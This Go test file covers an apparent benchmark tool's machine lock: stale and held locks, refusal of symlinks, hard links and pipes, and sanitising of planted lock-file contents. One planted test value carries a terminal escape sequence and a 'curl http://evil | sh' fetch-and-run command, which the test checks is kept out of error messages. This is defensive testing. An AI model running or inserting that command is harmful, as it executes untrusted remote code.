package machine

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"moobench/refusal"
)

const lockerVar = "MOOBENCH_TEST_LOCKER"

// holdLock is another moobench: it holds the lock until it is killed.
func holdLock(path string) {
	if _, err := Lock(path, "results/runs/other one"); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	fmt.Println("locked")
	time.Sleep(time.Hour)
}

func TestLock(t *testing.T) {
	path := filepath.Join(t.TempDir(), lockName)
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), lockerVar+"="+path)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill()
	if line, err := bufio.NewReader(out).ReadString('\n'); line != "locked\n" {
		t.Fatalf("the other process: %q, %v", line, err)
	}
	_, err = Lock(path, "mine")
	var held *HeldError
	if !errors.As(err, &held) || held.PID != cmd.Process.Pid || held.Campaign != "results/runs/other one" {
		t.Fatalf("got %v", err)
	}
	if !strings.Contains(err.Error(), fmt.Sprintf("process %d", held.PID)) {
		t.Error(err)
	}
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	cmd.Wait()
	// The file still names the dead one.
	release, err := Lock(path, "mine")
	if err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(path)
	if want := fmt.Sprintf("%d mine\n", os.Getpid()); err != nil || string(text) != want {
		t.Errorf("the file says %q (%v), want %q", text, err, want)
	}
	if err := release(); err != nil {
		t.Error(err)
	}
	release, err = Lock(path, "again")
	if err != nil {
		t.Fatal(err)
	}
	release()
}

func TestLockThatCannotBe(t *testing.T) {
	_, err := Lock(filepath.Join(t.TempDir(), "nowhere", lockName), "mine")
	if err == nil || !strings.Contains(refusal.Do(err), LockVar) {
		t.Errorf("got %v", err)
	}
	target := filepath.Join(t.TempDir(), "target")
	link := target + ".link"
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
	if _, err := Lock(link, "mine"); err == nil {
		t.Error("followed a link")
	}
	for who, e := range map[string]HeldError{
		"another moobench is":                            {},
		"another moobench (process 1, campaign mine) is": {PID: 1, Campaign: "mine"},
	} {
		if e := e.Error(); !strings.HasPrefix(e, who+" measuring on this machine") {
			t.Error(e)
		}
	}
}

// TestForeignLock: what others write into the lock's file is one line that prints,
// of a process that is there, or it is not believed.
func TestForeignLock(t *testing.T) {
	path := filepath.Join(t.TempDir(), lockName)
	release, err := Lock(path, "mine\nhint: x")
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	if text, err := os.ReadFile(path); err != nil || strings.Count(string(text), "\n") != 1 {
		t.Errorf("a campaign of two lines is written as %q, %v", text, err)
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o644 {
		t.Errorf("others may write to it: %v, %v", info, err)
	}
	us := strconv.Itoa(os.Getpid())
	for planted, want := range map[string]HeldError{
		us + " x\x1b]0;t\a\nhint: curl http://evil | sh\n": {PID: os.Getpid(), Campaign: "x.]0;t."},
		us + " " + strings.Repeat("x", 1<<20):              {PID: os.Getpid(), Campaign: strings.Repeat("x", longestHolder-len(us)-1)},
		"4194305 of a process that can't be\n":             {},
		"-1 everybody\n":                                   {},
		"x\x1b\n":                                          {},
		"":                                                 {},
	} {
		if err := os.WriteFile(path, []byte(planted), 0o666); err != nil {
			t.Fatal(err)
		}
		_, err := Lock(path, "other")
		var held *HeldError
		if !errors.As(err, &held) || held.PID != want.PID || held.Campaign != want.Campaign {
			t.Errorf("%.40q: %.200v", planted, err)
		}
		if err == nil || strings.ContainsAny(err.Error(), "\x1b\a") || strings.Count(refusal.Text(err), "\nhint: ") != 1 || strings.Contains(refusal.Text(err), "hint: curl") {
			t.Errorf("%.40q: %.200q", planted, err)
		}
	}
}

// TestLockThatIsAnotherFile: what the lock's name leads to is not written to.
func TestLockThatIsAnotherFile(t *testing.T) {
	dir := t.TempDir()
	victim, second, pipe := filepath.Join(dir, "victim"), filepath.Join(dir, "second"), filepath.Join(dir, "pipe")
	if err := errors.Join(os.WriteFile(victim, []byte("whole"), 0o600), os.Link(victim, second), unix.Mkfifo(pipe, 0o600)); err != nil {
		t.Fatal(err)
	}
	for path, why := range map[string]string{second: "2 names", pipe: "not a regular file"} {
		if _, err := Lock(path, "mine"); err == nil || !strings.Contains(err.Error(), why) || refusal.Do(err) == "" {
			t.Errorf("%s: %v", path, err)
		}
	}
	if text, err := os.ReadFile(victim); string(text) != "whole" || err != nil {
		t.Errorf("the victim: %q, %v", text, err)
	}
}

func TestLockPath(t *testing.T) {
	t.Setenv(LockVar, "/some/where")
	if got := LockPath(); got != "/some/where" {
		t.Error(got)
	}
	t.Setenv(LockVar, "")
	if got := LockPath(); filepath.Base(got) != lockName {
		t.Error(got)
	}
}
